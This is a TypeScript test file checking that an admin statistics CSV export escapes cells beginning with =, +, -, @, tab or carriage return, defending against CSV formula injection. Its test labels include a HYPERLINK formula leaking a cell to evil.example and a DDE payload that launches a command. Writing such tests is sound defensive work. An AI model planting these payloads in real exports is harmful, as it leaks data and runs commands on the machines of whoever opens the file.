import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addListItem } from '../../server/settings/list-editing.js';
import { createTestApp, type TestApp } from '../helpers/app.js';
import { insertReports } from '../helpers/reports.js';
import { addStaff, signInStaff } from '../helpers/staff.js';

// CSV formula injection (OWASP): a cell a spreadsheet reads as a formula
// (it begins with =, +, -, @, a tab or a carriage return) is written with a
// leading ' in the statistics export. List labels are typed by
// administrators, so a label is the way in.

const LABELS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\tTabbed', '\rReturned'];
let t: TestApp;
let csv: string;
let json: { tables: { id: string; rows: { label: string }[] }[] };

beforeAll(async () => {
  t = await createTestApp();
  for (const label of LABELS) {
    const code = await t.testDb.db.transaction().execute((trx) => addListItem(trx, 'region', { en: label }));
    await insertReports(t, 12, { region: code, at: '2026-02-10T12:00:00Z' });
  }
  const agent = await signInStaff(t, await addStaff(t, { roles: ['admin'] }));
  csv = (await agent.get('/admin/statistics.csv?from=2026-Q1&to=2026-Q1')).text;
  json = (await agent.get('/admin/statistics.json?from=2026-Q1&to=2026-Q1')).body as typeof json;
});
afterAll(async () => {
  await t?.close();
});

/** The CSV split into rows of cells, as a spreadsheet reads it (quotes, doubled quotes, commas and line breaks inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

describe('the statistics CSV', () => {
  it('writes no cell that a spreadsheet would run as a formula', () => {
    const cells = parseCsv(csv.replace(/^\uFEFF/, '')).flat();
    for (const c of cells) expect(c, JSON.stringify(c)).not.toMatch(/^[=+\-@\t\r]/);
    // Each label is still there, readable, behind the quote.
    for (const label of LABELS) expect(cells).toContain(`'${label}`);
  });

  it('keeps every row at the table’s width: no label starts a new cell or line', () => {
    const rows = parseCsv(csv.replace(/^\uFEFF/, ''));
    const header = rows.find((r) => r[0] === 'Region')!;
    const regionRows = rows.filter((r) => LABELS.some((l) => r[0] === `'${l}`));
    expect(regionRows).toHaveLength(LABELS.length);
    for (const r of regionRows) expect(r).toHaveLength(header.length);
  });

  it('leaves the JSON export as it is', () => {
    const region = json.tables.find((tb) => tb.id === 'region-quarter')!;
    for (const label of LABELS) expect(region.rows.map((r) => r.label)).toContain(label);
  });
});
